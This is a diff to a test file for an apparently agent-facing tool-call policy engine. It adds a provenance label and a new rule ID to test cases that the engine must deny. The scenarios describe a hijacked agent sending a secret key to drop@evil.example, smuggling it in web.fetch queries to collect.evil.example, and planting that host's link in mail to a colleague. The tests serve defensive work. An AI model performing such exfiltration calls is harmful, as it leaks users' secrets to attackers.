@@ -16,6 +16,7 @@ pytestmark = pytest.mark.anyio
 ALLOW, DENY, ASK = Outcome.ALLOW, Outcome.DENY, Outcome.ASK
 HIJACKED = {"integrity": "public", "level": "internal"}
 ROBBED = {"integrity": "public", "level": "secret"}
+INVENTED = {"vouched": "public"}
 KEY_PATH = "/secrets/api-key.txt"
 
 # name, tool, words of the call, outcome, determining rules
@@ -43,14 +44,14 @@ WORLD: list[tuple[str, str, dict[str, Any], Outcome, set[str]]] = [
     (
         "mail the secret out",
         "mail.send",
-        ROBBED | {"to": ["drop@evil.example"]},
+        ROBBED | INVENTED | {"to": ["drop@evil.example"]},
         DENY,
         {"FLOW-002", "FLOW-003"},
     ),
     (
         "hide it in a web address",
         "web.fetch",
-        ROBBED | {"urls": [{"host": "collect.evil.example", "query_bytes": 40}]},
+        ROBBED | INVENTED | {"urls": [{"host": "collect.evil.example", "query_bytes": 40}]},
         DENY,
         {"EGR-005", "FLOW-004", "FLOW-006"},
     ),
@@ -58,6 +59,7 @@ WORLD: list[tuple[str, str, dict[str, Any], Outcome, set[str]]] = [
         "hide it there in the clear",
         "web.fetch",
         ROBBED
+        | INVENTED
         | {"urls": [{"host": "collect.evil.example", "query_bytes": 40, "scheme": "http", "port": 80}]},
         DENY,
         {"EGR-004", "EGR-005", "EGR-010", "FLOW-004", "FLOW-006"},
@@ -65,7 +67,7 @@ WORLD: list[tuple[str, str, dict[str, Any], Outcome, set[str]]] = [
     (
         "send private mail out by web address",
         "web.fetch",
-        HIJACKED | {"urls": [{"host": "collect.evil.example"}]},
+        HIJACKED | INVENTED | {"urls": [{"host": "collect.evil.example"}]},
         DENY,
         {"FLOW-006"},
     ),
@@ -93,9 +95,9 @@ WORLD: list[tuple[str, str, dict[str, Any], Outcome, set[str]]] = [
     (
         "plant a link for the colleague",
         "mail.send",
-        HIJACKED | {"to": ["jonas@corp.example"], "text": [{"urls": ["collect.evil.example"]}]},
+        HIJACKED | INVENTED | {"to": ["jonas@corp.example"], "text": [{"urls": ["collect.evil.example"]}]},
         DENY,
-        {"EGR-007"},
+        {"EGR-007", "PROV-008"},
     ),
     (
         "mail someone whom the prompt names",
@@ -186,4 +188,4 @@ async def test_denials_speak_in_the_authors_static_words(
 
 def test_every_denial_that_an_agent_can_mend_has_a_remedy(bundle: Bundle) -> None:
     silent = {rule.id for rule in bundle.rules.values() if not rule.remedy}
-    assert silent == {"CATALOG-100", "PATH-100", "LIM-010", "EGR-009"}
+    assert silent == {"CATALOG-100", "PATH-100", "LIM-010", "PROV-100", "EGR-009"}
